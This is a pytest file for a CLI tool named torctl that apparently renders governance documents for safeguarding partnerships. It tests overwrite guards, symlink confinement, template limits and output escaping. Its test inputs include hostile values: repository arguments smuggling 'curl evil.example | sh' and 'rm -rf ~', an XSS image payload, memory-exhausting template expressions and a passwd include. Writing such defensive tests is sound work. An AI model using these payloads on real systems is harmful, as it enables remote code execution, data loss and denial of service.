"""Issue 30, item by item (the write paths are in test_write_paths.py, the corpus run in test_hostile_run.py)."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest
from conftest import BODIES

LSCP, RDG = "solihull-lscp", "solihull-rdg"


@pytest.fixture
def bodies(tmp_path: Path) -> Path:
    root = tmp_path / "bodies"
    shutil.copytree(BODIES, root)
    return root


# ---------------------------------------------------------------- outputs never write over what torctl did not write


def test_render_never_writes_over_a_body_file(cli, bodies: Path):
    body = bodies / f"{RDG}.yaml"
    before = body.read_bytes()
    result = cli("--bodies", str(bodies), "render", LSCP, "-f", "md", "-o", str(body))
    assert result.exit_code == 2 and "it is in the bodies directory" in result.stderr and "--force" in result.stderr
    assert body.read_bytes() == before
    added = cli("--bodies", str(bodies), "render", LSCP, "-f", "md", "-o", str(bodies / "new.yaml"))
    assert added.exit_code == 2 and not (bodies / "new.yaml").exists()  # a YAML file there would be read as a body


@pytest.mark.parametrize(
    "args",
    [
        ["render", LSCP, "-f", "md"],
        ["schema"],
        ["map", "-f", "dot"],
        ["review-due", "--as-of", "2026-11-23", "-f", "json"],
        ["schedule", "solihull-sscp-executive", "--from", "2026-11-23", "--first", "2027-01-05", "-f", "json"],
        ["export", "-f", "popolo", "--as-of", "2026-12-04"],
    ],
    ids=lambda a: a[0],
)
def test_an_output_is_written_again_but_never_over_a_file_torctl_did_not_write(cli, tmp_path: Path, args):
    suffix = {"render": "md", "map": "dot"}.get(args[0], "json")
    out = tmp_path / f"out.{suffix}"
    assert cli(*args, "-o", str(out)).exit_code == 0
    first = out.read_bytes()
    assert cli(*args, "-o", str(out)).exit_code == 0  # torctl wrote it: written again
    out.write_text("the clerk's own notes\n", encoding="utf-8")
    refused = cli(*args, "-o", str(out))
    assert refused.exit_code == 2
    assert "torctl did not write it, or it has changed since; add --force to replace it" in refused.stderr
    assert out.read_text(encoding="utf-8") == "the clerk's own notes\n"
    assert cli(*args, "-o", str(out), "--force").exit_code == 0 and out.read_bytes() == first


def test_meeting_check_output_is_guarded_too(cli, tmp_path: Path):
    record = Path("docs/examples/records/attendance/solihull-sscp-executive/2024-01-16.yaml").resolve()
    out = tmp_path / "note.md"
    out.write_text("mine\n", encoding="utf-8")
    args = ("--bodies", str(record.parents[2]), "meeting", "check", str(record), "-f", "md", "-o", str(out))
    result = cli(*args)
    assert result.exit_code == 2 and out.read_text(encoding="utf-8") == "mine\n"
    assert cli(*args, "--force").exit_code in (0, 1) and out.read_text(encoding="utf-8") != "mine\n"


def test_the_site_refuses_a_symlink_inside_its_directory(cli, tmp_path: Path):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "bodies").symlink_to(elsewhere)
    result = cli("site", "-o", str(out), "--as-of", "2026-12-04", "--no-pdf")
    assert result.exit_code == 2 and "is a symbolic link" in result.stderr
    assert os.listdir(elsewhere) == [] and os.listdir(out) == ["bodies"]  # nothing written anywhere


def test_the_site_is_built_again_but_not_over_a_page_someone_changed(cli, tmp_path: Path):
    out = tmp_path / "site"
    assert cli("site", "-o", str(out), "--as-of", "2026-12-04", "--no-pdf").exit_code == 0
    assert cli("site", "-o", str(out), "--as-of", "2026-12-04", "--no-pdf").exit_code == 0
    (out / "index.html").write_text("hand-made\n", encoding="utf-8")
    refused = cli("site", "-o", str(out), "--as-of", "2026-12-04", "--no-pdf")
    assert refused.exit_code == 2 and "index.html" in refused.stderr
    assert (out / "index.html").read_text(encoding="utf-8") == "hand-made\n"


def test_export_refuses_year_9999_as_every_date_option_does(cli):
    for command in (["export", "-f", "popolo"], ["site", "-o", "never", "--no-pdf"]):
        result = cli(*command, "--as-of", "9999-12-31")
        assert result.exit_code == 2 and "9999" in result.stderr, command
    assert not Path("never").exists()


# ---------------------------------------------------------------- reading outside the tree


def test_a_symlink_out_of_the_bodies_directory_is_never_read_or_published(cli, bodies: Path, tmp_path: Path):
    outside = tmp_path / "secret.yaml"
    outside.write_text("API_KEY: hunter2\nid: leak-body\nname: Leaked Board\n", encoding="utf-8")
    (bodies / "leak-body.yaml").symlink_to(outside)
    checked = cli("--bodies", str(bodies), "validate")
    assert checked.exit_code == 1 and "Y010" in checked.stdout
    assert "API_KEY" not in checked.stdout + checked.stderr
    out = tmp_path / "site"
    cli("--bodies", str(bodies), "site", "-o", str(out), "--as-of", "2026-12-04", "--no-pdf")
    published = b"".join(p.read_bytes() for p in out.rglob("*") if p.is_file())
    assert b"Leaked Board" not in published and b"API_KEY" not in published
    assert b"leak-body" not in (out / "popolo.json").read_bytes()
    exported = cli("--bodies", str(bodies), "export", "-f", "popolo", "--as-of", "2026-12-04")
    assert "Leaked" not in exported.stdout


def test_a_records_folder_linked_out_of_the_tree_is_not_read(cli, bodies: Path, tmp_path: Path):
    outside = tmp_path / "elsewhere"
    shutil.copytree(Path("docs/examples/records/attendance"), outside)
    (bodies / "attendance").symlink_to(outside, target_is_directory=True)
    checked = cli("--bodies", str(bodies), "validate")
    assert checked.exit_code == 1 and "attendance: error Y010" in checked.stdout


# ---------------------------------------------------------------- inputs that fool a verdict


def test_a_review_date_in_the_future_is_a_finding_not_ok(cli, bodies: Path):
    path = bodies / "solihull-strategic-quartet.yaml"
    text = path.read_text(encoding="utf-8")
    import re

    text, n = re.subn(r"(?m)^(  last_reviewed:) .*$", r"\1 2999-09", text, count=1)
    assert n == 1
    path.write_text(text, encoding="utf-8")
    result = cli("--bodies", str(bodies), "validate", "-f", "json")
    codes = [(f["code"], f["message"]) for f in json.loads(result.stdout)["findings"]]
    assert result.exit_code == 1
    assert any(code == "D002" and "September 2999 is after today" in msg for code, msg in codes), codes


# ---------------------------------------------------------------- templates: confined, and bounded


def _template(tmp_path: Path, text: str, name: str = "tor.md.j2") -> Path:
    mine = tmp_path / "mine"
    mine.mkdir(exist_ok=True)
    (mine / name).write_text(text, encoding="utf-8")
    return mine


def test_an_include_through_a_templates_folder_linked_out_of_the_tree_is_refused(
    cli, bodies: Path, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
):
    etc = tmp_path_factory.mktemp("etc")  # outside the folder holding bodies/
    (etc / "passwd").write_text("root:x:0:0\n", encoding="utf-8")
    (etc / "passwd.md.j2").write_text("root:x:0:0\n", encoding="utf-8")
    (bodies.parent / "templates").symlink_to(etc, target_is_directory=True)
    for include in ("passwd", "passwd.md.j2"):
        mine = _template(tmp_path, f'{{% include "{include}" %}}\n')
        result = cli("--bodies", str(bodies), "render", RDG, "-f", "md", "-o", "-", "--templates", str(mine))
        assert result.exit_code == 2 and "root:x" not in result.stdout, include
        assert "refused" in result.stderr


def test_a_template_cannot_include_a_file_that_is_not_a_template(cli, tmp_path: Path):
    mine = _template(tmp_path, '{% include "notes.txt" %}\n')
    (mine / "notes.txt").write_text("private notes\n", encoding="utf-8")
    result = cli("render", RDG, "-f", "md", "-o", "-", "--templates", str(mine))
    assert result.exit_code == 2 and "'notes.txt' is not a template" in result.stderr
    assert "private" not in result.stdout


@pytest.mark.parametrize(
    "text",
    [
        "{{ 'x' * 10**10 }}",
        "{{ ['x'] * 10**9 }}",
        "{{ 10 ** 100000000 }}",
        "{% set ns = namespace(n=10**64) %}{% for i in range(9) %}{% set ns.n = ns.n ** 64 %}{% endfor %}{{ 1 }}",
        "{% set ns = namespace(s='x') %}{% for i in range(64) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}",
        "{% set ns = namespace(s='x') %}{% for i in range(64) %}{% set ns.s = ns.s + ns.s %}{% endfor %}{{ ns.s }}",
        "{{ 'x'|center(10**9) }}",
        "{{ 'x'|indent(10**9, true) }}",
        "{{ ('x' * 1000)|replace('', 'y' * 10000) }}",
        "{{ '%999999999s'|format('x') }}",
        "{{ '%999999999s' % 'x' }}",
        "{{ '{:>999999999}'.format('x') }}",
        "{{ 'x'.ljust(10**9) }}",
    ],
)
def test_a_template_cannot_build_a_huge_value(cli, tmp_path: Path, text: str):
    mine = _template(tmp_path, text + "\n")
    result = cli("render", RDG, "-f", "md", "-o", "-", "--templates", str(mine))
    assert result.exit_code == 2, result.stderr
    assert "template error in" in result.stderr and ("build" in result.stderr or "too" in result.stderr)


def test_a_template_that_runs_too_long_is_stopped(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    from torctl.render import env

    monkeypatch.setattr(env, "RENDER_SECONDS", 0.3)
    mine = _template(tmp_path, "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n")
    result = cli("render", RDG, "-f", "md", "-o", "-", "--templates", str(mine))
    assert result.exit_code == 2 and "ran for more than 0.3 s" in result.stderr


def test_a_template_that_writes_too_much_is_stopped(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    from torctl.render import env

    monkeypatch.setattr(env, "MAX_OUTPUT", 100_000)
    mine = _template(tmp_path, "{% for i in range(100000) %}{{ 'x' * 100 }}{% endfor %}\n")
    result = cli("render", RDG, "-f", "md", "-o", "-", "--templates", str(mine))
    assert result.exit_code == 2 and "wrote more than 100,000 characters" in result.stderr


# ---------------------------------------------------------------- init writes only what it validated


PARTNERS = ("--partnership", "Solihull Safeguarding Children Partnership", "--police", "West Midlands Police (WMP)")


@pytest.mark.parametrize(
    "repo",
    [
        '"git+https://example.org/t.git" && curl -s https://evil.example/x.sh | sh && echo "',
        "https://example.org/t.git\n      - run: curl evil.example | sh",
        "https://example.org/${{ secrets.GITHUB_TOKEN }}",
        "https://example.org/t.git; rm -rf ~",
        "not a url",
        "requests>=2",
    ],
)
def test_init_refuses_a_torctl_repo_that_is_no_url_or_requirement(cli, tmp_path: Path, repo: str):
    result = cli("init", str(tmp_path / "r"), *PARTNERS, "--torctl-repo", repo, cwd=tmp_path)
    assert result.exit_code == 2 and "Traceback" not in result.stderr
    assert not (tmp_path / "r").exists()


@pytest.mark.parametrize(
    ("repo", "install", "hook"),
    [
        ("git@github.com:org/torctl.git", "git+git@github.com:org/torctl.git@v", "git@github.com:org/torctl.git"),
        (
            "torctl @ git+https://example.org/t.git@main",
            "torctl @ git+https://example.org/t.git@main",
            "https://example.org/t.git",
        ),
        ("torctl>=0.1", "torctl>=0.1", None),
    ],
)
def test_init_accepts_a_git_url_or_a_pep_508_requirement(cli, tmp_path: Path, repo: str, install: str, hook):
    import yaml

    result = cli("init", str(tmp_path / "r"), *PARTNERS, "--torctl-repo", repo, cwd=tmp_path)
    assert result.exit_code == 0, result.stderr
    steps = yaml.safe_load((tmp_path / "r/.github/workflows/torctl.yml").read_text())["jobs"]["validate"]["steps"]
    assert len(steps) == 6
    import shlex

    assert shlex.split(steps[2]["run"])[-1].startswith(install)
    config = yaml.safe_load((tmp_path / "r/.pre-commit-config.yaml").read_text())["repos"][0]
    assert config["repo"] == (hook or "local")


def test_init_writes_names_through_the_emitter_and_refuses_invisible_characters(cli, tmp_path: Path):
    import yaml

    odd = ("--partnership", 'P: "x"\nevil: 1 # ', "--police", "Police: {a: b} (P&P)")
    result = cli("init", str(tmp_path / "r"), *odd, cwd=tmp_path)
    assert result.exit_code == 0, result.stderr
    agencies = yaml.safe_load((tmp_path / "r/bodies/agencies.yaml").read_text())["agencies"]
    assert agencies[0]["name"] == "Police: {a: b}" and agencies[0]["short_name"] == "P&P"
    assert cli("--bodies", str(tmp_path / "r/bodies"), "validate").exit_code == 0
    for bad in ("Partner\u202eship", "Partner\u200bship", "Partner\x1b[2Jship"):
        refused = cli("init", str(tmp_path / "s"), "--partnership", bad, "--police", "WMP", cwd=tmp_path)
        assert refused.exit_code == 2 and "invisible or control character" in refused.stderr


def test_init_refuses_an_empty_directory_a_dangling_link_and_a_linked_bodies_folder(cli, tmp_path: Path):
    assert cli("init", "", *PARTNERS, cwd=tmp_path).exit_code == 2 and os.listdir(tmp_path) == []
    assert cli("init", str(tmp_path / "e"), "--partnership", "  ", "--police", "WMP", cwd=tmp_path).exit_code == 2
    dangling = tmp_path / "d"
    dangling.mkdir()
    (dangling / "README.md").symlink_to(tmp_path / "nowhere")
    result = cli("init", str(dangling), *PARTNERS, cwd=tmp_path)
    assert result.exit_code == 2 and "never overwrites a file" in result.stderr
    assert (dangling / "README.md").is_symlink() and not (tmp_path / "nowhere").exists()
    linked = tmp_path / "l"
    linked.mkdir()
    (tmp_path / "elsewhere").mkdir()
    (linked / "bodies").symlink_to(tmp_path / "elsewhere")
    result = cli("init", str(linked), *PARTNERS, cwd=tmp_path)
    assert result.exit_code == 2 and "is a symbolic link" in result.stderr
    assert os.listdir(tmp_path / "elsewhere") == []


# ---------------------------------------------------------------- output that others read


def test_diff_markdown_neutralises_mentions_and_markup(cli, bodies: Path, tmp_path: Path):
    old = tmp_path / "old"
    shutil.copytree(bodies, old)
    path = bodies / f"{RDG}.yaml"
    text = path.read_text(encoding="utf-8")
    assert "name: Response and Delivery Group" in text
    hostile = "Response @everyone @org/team <img src=x onerror=alert(1)> ![x](https://evil.example/p.png)"
    path.write_text(text.replace("name: Response and Delivery Group", f"name: '{hostile}'", 1), encoding="utf-8")
    result = cli("diff", str(old), str(bodies), "--format", "md")
    assert result.exit_code == 0, result.stderr
    out = result.stdout
    assert "`@everyone`" in out and "`@org/team`" in out
    assert "<img" not in out.replace("\\<img", "") and "\\<img" in out and "![x]" not in out
    import re

    assert not re.search(r"(?<![`\w])@(everyone|org)", out)  # every mention is inside a code span


def test_sarif_uris_are_rfc_3986_references_to_a_declared_base(cli, bodies: Path):
    odd = bodies / "odd name #1?.yaml"
    odd.write_text("id: odd\n", encoding="utf-8")
    result = cli("--bodies", str(bodies), "validate", "--format", "sarif", cwd=bodies)
    log = json.loads(result.stdout)
    run = log["runs"][0]
    assert "SRCROOT" in run["originalUriBaseIds"]
    locations = [r["locations"][0]["physicalLocation"]["artifactLocation"] for r in run["results"]]
    odd_uris = {loc["uri"] for loc in locations if "odd" in loc["uri"]}
    assert odd_uris == {"odd%20name%20%231%3F.yaml"}
    assert all(loc["uriBaseId"] == "SRCROOT" for loc in locations)
    from torctl.data.reporters import sarif_uri

    assert sarif_uri("a\nb/c:d.yaml") == "a%0Ab/c%3Ad.yaml"
